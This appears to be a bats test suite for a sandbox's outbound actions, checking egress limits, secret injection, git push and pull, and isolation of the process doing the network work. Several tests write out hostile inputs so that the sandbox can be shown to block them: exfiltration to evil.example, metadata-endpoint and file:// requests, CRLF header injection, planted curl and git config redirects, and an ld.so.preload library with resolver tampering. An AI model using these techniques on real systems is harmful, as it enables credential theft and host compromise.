#!/usr/bin/env bats
# Actions that leave the pod: by its egress policy, with keys that it does not have.

load ../lib/envpod
load ../integration/injected
load actions

setup_file()
{
	injected_setup
	forms
	net_pod web 'dns: {allow: [api.example, evil.example], upstream: [203.0.113.53]}'
	on_host envpod start web -- sleep 1000
	injected_vault
	bound api.example
	POD=web
	queue_dirs
	own pushes git_push '{"undo_push":true,"auth_vault_key":"TOKEN","remote":"origin"}'
	own calls http_post '{"base_url":"https://api.example/v1","auth_vault_key":"TOKEN"}'
	own keyless http_get '{"auth_vault_key":"NOSUCH"}'
	git init -q --bare -b main "$T/srv/repo.git"
	git -C "$T/srv/repo.git" config http.receivepack true
	in_pod web sh -c 'git init -q -b main /var/tmp/work && cd /var/tmp/work && git config user.name a && git config user.email a@b &&
		git remote add origin https://api.example/git/repo.git && echo 1 >f && git add f && git commit -qm one'
}
teardown_file() { world_teardown; }
setup()
{
	POD=web ON=on_host QUEUE=$ENVPOD_STATE_DIR/pods/web/queue
	N=$((BATS_TEST_NUMBER * 100))
}
teardown() { only_there; }

served() { git -C "$T/srv/repo.git" -c safe.directory='*' rev-parse -q --verify "$1"; }

@test "http_get, post, put, patch, delete, webhook: sent as asked, answered within bounds, and never taken back" {
	local type body
	done_ok http_get '{"url":"https://api.example/one?q=1","headers":{"X-Mine":"yes"}}'
	jq -e '.result.status == 200 and (.result.body | fromjson | .method == "GET")' "$result"
	sent '.target == "/one?q=1" and any(.headers[]; . == ["x-mine", "yes"])'
	never "asked, and changed nothing"
	expect 2 take_back
	for type in post put patch; do
		done_ok http_$type "{\"url\":\"https://api.example/$type\",\"body\":{\"b\":[1,\"two\"]}}"
		jq -e --arg m "${type^^}" '.result.body | fromjson | .method == $m and (.body | fromjson | .b == [1, "two"])' "$result"
		sent ".target == \"/$type\" and any(.headers[]; . == [\"content-type\", \"application/json\"])"
		never "cannot be taken back"
	done
	done_ok http_post '{"url":"https://api.example/text","body":"as it is","content_type":"text/plain"}'
	jq -e '.result.body | fromjson | .body == "as it is"' "$result"
	done_ok http_delete '{"url":"https://api.example/gone"}'
	sent '.target == "/gone" and .method == "DELETE"'
	done_ok webhook '{"url":"https://api.example/hook","payload":{"event":"x"}}'
	jq -e '.result.body | fromjson | .body == "{\"event\":\"x\"}"' "$result"
}

@test "webhook with a secret_header: the value is bound to host and header, and put in on the way out" {
	local hook='{"url":"https://api.example/hook2","payload":{},"secret_header":"X-Hook-Token"}'
	failed webhook "$hook" "no secret is bound to api.example as header X-Hook-Token"
	refute sent '.target == "/hook2"'
	printf hook-token-of-the-vault | on_host envpod vault web set HOOK
	on_host envpod vault web bind HOOK api.example --header 'X-Hook-Token: {value}'
	failed webhook '{"url":"https://evil.example/hook2","payload":{},"secret_header":"X-Hook-Token"}' "no secret is bound to evil.example"
	failed webhook '{"url":"http://api.example/hook2","payload":{},"secret_header":"X-Hook-Token"}' "no secret is bound"
	failed webhook '{"url":"https://api.example/hook2","payload":{},"secret_header":"X-Other"}' "no secret is bound"
	failed webhook '{"url":"https://api.example/hook2","payload":{},"secret_header":"X-Hook-Token","headers":{"x-hook-token":"mine"}}' "is what secret_header is for"
	refute sent '.target == "/hook2"'
	done_ok webhook "$hook"
	sent '.target == "/hook2" and any(.headers[]; . == ["x-hook-token", "hook-token-of-the-vault"])'
	refute grep -rl hook-token-of-the-vault "$ENVPOD_STATE_DIR/pods/web/queue" "$ENVPOD_STATE_DIR/pods/web/audit" "$ENVPOD_STATE_DIR/pods/web/undo"
	on_host envpod vault web unbind HOOK
}

# of_the_request FIELD: what /proc says of the executor that waits for an answer.
of_the_request() { sed -n "s/^$1:[[:space:]]*//p" "/proc/$(pgrep -f "^executor --pod=web")/status"; }

@test "an http action is at work outside of the view: no file, no power, in the pod's network; it ends with the pod's init" {
	action http_get '{"url":"https://api.example/silent"}' &
	local job=$! pid uid
	wait_for 20 sent '.target == "/silent"'
	pid=$(pgrep -f "^executor --pod=web")
	uid=$(of_the_request Uid | cut -f 2)
	[ "$uid" -ge $((0x70000000)) ]
	[ "$(of_the_request CapEff)" = 0000000000000000 ]
	[ "$(of_the_request Seccomp) $(of_the_request NoNewPrivs)" = "2 1" ]
	[ "$(readlink "/proc/$pid/ns/net")" = "$(readlink "/proc/$(cut -d ' ' -f 1 "$ENVPOD_RUN_DIR/web/init.pid")/ns/net")" ]
	[ "$(readlink "/proc/$pid/ns/mnt")" != "$(readlink "/proc/$(cut -d ' ' -f 1 "$ENVPOD_RUN_DIR/web/init.pid")/ns/mnt")" ]
	# The pod's all the same: who freezes that freezes it, and it counts.
	grep -q '^0::.*/web[^/]*/app$' "/proc/$pid/cgroup"
	SECONDS=0
	kill -KILL "$(cut -d ' ' -f 1 "$ENVPOD_RUN_DIR/web/init.pid")"
	wait "$job"
	[ "$SECONDS" -lt 40 ]
	jq -e '.status == "failed"' "$QUEUE"/done/*"$(printf %04d $((N + 1)) | tr 0189 wxyz)".json
	wait_for 20 on_host envpod start web -- sleep 1000
}

@test "the key is put in on the way out: neither action, executor nor record has it" {
	done_ok http_post '{"url":"items","body":{}}' calls
	sent '.target == "/v1/items" and any(.headers[]; .[0] == "authorization" and (.[1] | startswith("Bearer real-")))'
	failed http_post '{"url":"https://api.example/v2/x"}' "below https://api.example/v1" calls
	failed http_post '{"url":"https://evil.example/v1/x"}' "below https://api.example/v1" calls
	failed http_post '{"url":"x/../../y"}' '\.\.' calls
	failed http_get '{"url":"https://api.example/"}' "no binding of NOSUCH" keyless
	clean "$ENVPOD_STATE_DIR/pods/web/queue" "$ENVPOD_STATE_DIR/pods/web/audit" "$ENVPOD_STATE_DIR/pods/web/undo"
}

@test "what the pod may not reach no action reaches: names, raw addresses, the host, itself by another scheme" {
	failed http_get '{"url":"https://shop.example/"}' "resolve|connect"
	failed http_get '{"url":"https://198.51.100.2/"}' "connect|refused|unreachable"
	failed http_get '{"url":"http://192.0.2.254/"}' "connect|refused|unreachable"
	failed http_get '{"url":"http://169.254.169.254/latest/meta-data"}' "connect|refused|unreachable"
	failed http_get '{"url":"file:///etc/passwd"}' "http://"
	failed http_get '{"url":"gopher://api.example/"}' "http://"
	failed http_get '{"url":"https://user:word@api.example/"}' "no user"
	failed http_get '{"url":"https://api.example/","headers":{"Host":"evil.example"}}' "Host"
	failed http_get '{"url":"https://api.example/","headers":{"X":"a\r\nY: b"}}' "headers"
}

@test "what lies in the pod's home has no say: curlrc, netrc, proxies, libraries to preload" {
	in_pod web sh -c 'cd && printf "proxy = http://198.51.100.2:80\nheader = \"X-Planted: 1\"\n" >.curlrc && printf "machine api.example login l password p\n" >.netrc &&
		printf "[http]\n\tproxy = http://198.51.100.2:80\n\textraHeader = X-Planted: 1\n[url \"https://evil.example/\"]\n\tinsteadOf = https://api.example/\n" >.gitconfig'
	done_ok http_get '{"url":"https://api.example/plain"}'
	sent '.target == "/plain" and .at == "198.51.100.1:443"'
	refute sent 'any(.headers[]; .[0] == "x-planted")'
	done_ok git_push '{"working_dir":"/var/tmp/work"}'
	refute sent 'any(.headers[]; .[0] == "x-planted")'
	in_pod web sh -c 'cd && rm .curlrc .netrc .gitconfig'
}

@test "git_push with a key: done; taken back only where the config allows it, and only from what was pushed" {
	in_pod web sh -c 'cd /var/tmp/work && echo 2 >f && git commit -qam two'
	local old new
	old=$(served main)
	done_ok git_push '{"working_dir":"/var/tmp/work"}' pushes
	new=$(served main)
	[ "$new" != "$old" ]
	[ "$(jq -r .result.commit "$result")" = "$new" ]
	sent '(.target | endswith("git-receive-pack")) and any(.headers[]; .[0] == "authorization" and (.[1] | test("real-")))'
	take_back
	[ "$(served main)" = "$old" ]
	done_ok git_push '{"working_dir":"/var/tmp/work","branch":"main"}'
	never "others may have it"
	in_pod web sh -c 'cd /var/tmp/work && git checkout -qb side && git commit -q --allow-empty -m side'
	done_ok git_push '{"working_dir":"/var/tmp/work","branch":"side"}' pushes
	git -C "$T/srv/repo.git" -c safe.directory='*' update-ref refs/heads/side main
	expect 3 take_back
	[ "$(served side)" = "$(served main)" ]
}

@test "git_pull goes forward, and back; what would be a merge is refused. git_tag with push" {
	in_pod web sh -c 'cd /var/tmp/work && git checkout -q main && rm -rf /var/tmp/other && git clone -q https://api.example/git/repo.git /var/tmp/other 2>/dev/null'
	in_pod web sh -c 'cd /var/tmp/work && echo 3 >f && git commit -qam three'
	done_ok git_push '{"working_dir":"/var/tmp/work"}'
	done_ok git_pull '{"working_dir":"/var/tmp/other"}'
	[ "$(in_pod web cat /var/tmp/other/f)" = 3 ]
	take_back
	[ "$(in_pod web cat /var/tmp/other/f)" != 3 ]
	[ -z "$(in_pod web git -C /var/tmp/other status --porcelain)" ]
	in_pod web sh -c 'cd /var/tmp/other && git config user.name a && git config user.email a@b && git commit -q --allow-empty -m apart'
	failed git_pull '{"working_dir":"/var/tmp/other"}' "[Nn]ot possible to fast-forward|iverging"
	done_ok git_tag '{"working_dir":"/var/tmp/work","name":"v1","push":true}'
	served v1
	never "others may have it"
	in_pod web git -C /var/tmp/work remote set-url origin git@api.example:repo
	failed git_push '{"working_dir":"/var/tmp/work"}' "ssh would need a key"
	in_pod web git -C /var/tmp/work remote set-url origin https://evil.example/git/repo.git
	failed git_push '{"working_dir":"/var/tmp/work"}' "certificate"
}

@test "an action of a pod that does not run finds its network" {
	on_host envpod stop -t 0 web
	on_host pod-net down web
	done_ok http_get '{"url":"https://api.example/late"}'
	sent '.target == "/late"'
}

@test "loader, libraries, authorities and resolvers that the pod has changed are nobody's but its own" {
	on_host envpod run --user root web -- sh -c '
		printf "int x(void) __attribute__((constructor));\nint open(const char *, int, ...); int x(void) { return open(\"/tmp/planted\", 0101, 0666); }\n" >/tmp/p.c
		cc -shared -fPIC -o /opt/planted.so /tmp/p.c && echo /opt/planted.so >/etc/ld.so.preload &&
		: >/etc/ssl/certs/ca-certificates.crt && echo "nameserver 203.0.113.99" >/etc/resolv.conf && echo "198.51.100.2 api.example" >>/etc/hosts'
	in_pod web sh -c 'rm -f /tmp/planted; env true; [ -e /tmp/planted ]'
	refute in_pod web curl -s --max-time 5 https://api.example/by-the-pod
	in_pod web rm -f /tmp/planted
	done_ok http_get '{"url":"https://api.example/of-the-host"}'
	sent '.target == "/of-the-host" and .at == "198.51.100.1:443"'
	[ ! -e "/proc/$(cut -d ' ' -f 1 "$ENVPOD_RUN_DIR/web/init.pid")/root/tmp/planted" ]
	# That it was answered is ours to vouch for.
	pod-audit query --json web | jq -es 'map(select(.event == "action_executed")) | last | .http_status == 200'
}
